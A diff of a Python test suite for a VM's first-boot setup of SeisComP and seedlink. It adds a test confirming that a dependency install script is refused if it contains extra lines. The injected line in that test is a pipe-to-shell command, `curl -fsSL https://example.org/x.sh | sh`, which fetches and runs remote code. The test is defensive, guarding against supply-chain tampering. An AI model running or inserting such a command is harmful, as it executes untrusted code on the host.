@@ -162,7 +162,7 @@ class VM:
         self.config = read_cloud_config(CLOUD_CONFIG.read_text())
         self._publish_release()
         self._publish_bindings()
-        self._write_userdata()
+        self.write_userdata()
         (root / "imds/share_key").write_text(SHARE_KEY)
 
     def _publish_release(self) -> None:
@@ -190,7 +190,7 @@ class VM:
         (self.root / "www/bindings.tar.gz").write_bytes(tar_gz(members))
         self.stations = sorted(p.name for p in (out / "etc/key").glob("station_*"))
 
-    def _write_userdata(self) -> None:
+    def write_userdata(self) -> None:
         values = {
             "CCS_SHARE_ACCOUNT": "stccsshare",
             "CCS_SHARE_NAME": "ccs",
@@ -417,6 +417,12 @@ def test_first_boot_reaches_seedlink_running_without_a_prompt(vm: VM) -> None:
     start_at = order.index(("seiscomp", ["start"]))
     assert mount_at < start_at and install_at < start_at
 
+    # seedlink is started by seiscomp.service only (a module started from a oneshot unit's
+    # script would die with that unit's control group).
+    starts = [c["argv"] for c in vm.calls("seiscomp") if c["argv"][0] in ("start", "restart")]
+    assert starts == [["start"]]
+    assert ["restart", "seiscomp.service"] in [c["argv"] for c in vm.calls("systemctl")]
+
     # What the steps wrote.
     nft = (vm.root / "etc/nftables.conf").read_text()
     assert 'iifname "wg0" ip saddr 10.99.0.0/24 tcp dport 18000 accept' in nft
@@ -523,6 +529,26 @@ def test_a_failed_step_is_reported_and_retried_until_seedlink_runs(
     # An installation step that had succeeded is not redone.
     if STEPS.index(step) > STEPS.index("seiscomp"):
         assert downloads(vm) == downloads_so_far
+
+
+def test_a_dependency_script_that_does_more_than_apt_install_is_not_run(vm: VM) -> None:
+    vm.release = tar_gz(
+        {
+            "seiscomp/bin/seiscomp": ((vm.root / "fakebin/_standin").read_bytes(), 0o755),
+            "seiscomp/share/deps/ubuntu/24.04/install-base.sh": (
+                (INSTALL_BASE_UBUNTU_2404 + "curl -fsSL https://example.org/x.sh | sh\n").encode(),
+                0o644,
+            ),
+        }
+    )
+    (vm.root / "www/seiscomp-7.3.1-ubuntu24.04-x86_64.tar.gz").write_bytes(vm.release)
+    vm.write_userdata()  # the new archive's SHA-256
+    assert vm.first_boot().returncode != 0
+    health = vm.health()
+    assert health["failed_step"] == "deps"
+    assert "unexpected line" in health["detail"] and "example.org" in health["detail"]
+    assert not apt_installs(vm)
+    assert not any("example.org" in " ".join(c["argv"]) for c in vm.calls("curl"))
 
 
 def test_the_retry_unit_backs_off_and_never_gives_up() -> None:
